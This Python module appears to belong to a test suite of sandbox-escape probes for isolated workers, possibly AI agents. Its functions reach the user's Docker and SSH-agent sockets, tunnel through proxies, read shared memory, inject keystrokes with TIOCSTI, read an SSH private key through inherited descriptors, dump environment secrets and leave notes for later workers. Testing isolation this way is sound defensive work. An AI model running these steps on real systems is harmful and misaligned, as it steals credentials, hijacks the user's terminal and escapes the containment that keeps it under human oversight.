"""Sockets, shared memory, terminals and what is inherited."""

from __future__ import annotations

import ctypes
import os
import socket

from gitcto.escape.attacks.tools import At, append, checked, every, keep, libc, loot

_TIOCSTI = 0x5412


def _connect(family: int, address: str | tuple[str, int]) -> None:
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(2)
        client.connect(address)


def _connect_path(path: str) -> None:
    os.chdir(os.path.dirname(path))  # the path may be too long for a socket
    _connect(socket.AF_UNIX, os.path.basename(path))


def unix_user(at: At) -> None:
    """Connect to a socket of the user's, as that of Docker or of an SSH agent."""
    _connect_path(at["user_socket"])


def unix_sibling(at: At) -> None:
    """Connect to a socket in another worker's room."""
    _connect_path(at["sibling_socket"])


def unix_abstract(at: At) -> None:
    """Connect to an abstract unix socket."""
    _connect(socket.AF_UNIX, "\0" + at["abstract"])


def tcp_loopback(at: At) -> None:
    """Connect to a port that the user listens on at the loopback address."""
    _connect(socket.AF_INET, ("127.0.0.1", at["tcp_port"]))


def tcp_local(at: At) -> None:
    """Connect to a port at the machine's own network address."""
    _connect(socket.AF_INET, (at["address"], at["wide_port"]))


def udp(at: At) -> None:
    """Send a datagram to a port that the user listens on."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"attacked", ("127.0.0.1", at["udp_port"]))


def proxy(at: At) -> None:
    """Ask every proxy the worker was given, then nobody, for a port of the user's."""
    names = ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY")
    given = {os.environ[name] for name in names if name in os.environ}
    addresses = [each.rpartition("/")[2].rpartition(":") for each in given]
    every(lambda a=a: _ask_proxy(at, a[0] or "127.0.0.1", int(a[2])) for a in addresses)
    tcp_loopback(at)


def _ask_proxy(at: At, host: str, port: int) -> None:
    for target in (f"127.0.0.1:{at['tcp_port']}", f"localhost:{at['tcp_port']}"):
        with socket.create_connection((host, port), timeout=2) as client:
            client.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            client.recv(64)


def shared_memory(at: At) -> None:
    """Read a shared memory file of the user's."""
    loot(at, at["shared_memory"])


def system_v(at: At) -> None:
    """Read a System V shared memory segment of the user's."""
    library = libc()
    library.shmat.restype = ctypes.c_void_p
    library.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    found = library.shmat(at["segment"], None, 0o10000)
    if found in {None, ctypes.c_void_p(-1).value}:
        checked(-1)
    keep(at, ctypes.string_at(found, 64))


def terminal_write(at: At) -> None:
    """Write escape sequences to the user's terminal."""
    with open(at["terminal"], "wb", buffering=0) as terminal:
        terminal.write(b"\x1b]0;attacked\x07attacked")


def terminal_type(at: At) -> None:
    """Type a command into the user's terminal with TIOCSTI."""
    import fcntl

    terminal = os.open(at["terminal"], os.O_RDWR | os.O_NOCTTY)
    for letter in b"attacked\n":
        fcntl.ioctl(terminal, _TIOCSTI, bytes([letter]))


def inherited(at: At) -> None:
    """Use a descriptor of a directory of the user's that was left open."""
    for number in range(3, 256):
        try:
            handle = os.open(".ssh/id_ed25519", os.O_RDONLY, dir_fd=number)
        except OSError:
            continue
        keep(at, os.read(handle, 4096))


def environment(at: At) -> None:
    """Look for secrets in its own environment."""
    keep(at, "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode())


def message(at: At) -> None:
    """Leave a message for later workers in the directory for temporary files of all."""
    append(at["common_note"])
